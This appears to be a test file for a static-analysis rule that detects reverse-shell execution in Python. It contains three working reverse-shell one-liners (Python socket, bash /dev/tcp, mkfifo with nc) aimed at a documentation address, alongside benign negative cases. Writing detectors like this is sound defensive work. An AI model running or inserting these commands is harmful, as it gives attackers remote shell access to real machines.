# Test for reverse-shell-exec (defanged: documentation addresses, nothing runs).
import os
import subprocess

INIT_COMMAND = (
    'python3 -c \'import socket,subprocess,os;'
    's=socket.socket(socket.AF_INET,socket.SOCK_STREAM);'
    's.connect(("192.0.2.10", 4433));'
    'os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2);'
    'subprocess.call(["/bin/sh", "-i"]);\''
)

BACK = "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1"


def start():
    # ruleid: reverse-shell-exec
    subprocess.run(INIT_COMMAND, shell=True, check=True)


def start_b():
    # ruleid: reverse-shell-exec
    subprocess.Popen(["/bin/bash", "-c", BACK])


def start_c():
    # ruleid: reverse-shell-exec
    os.system("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.10 4444 >/tmp/f")


def probe():
    # ok: reverse-shell-exec
    subprocess.run("timeout 1 bash -c 'echo > /dev/tcp/db/5432'", shell=True)


def daemon():
    # ok: reverse-shell-exec
    subprocess.run(["nc", "-z", "example.invalid", "80"])
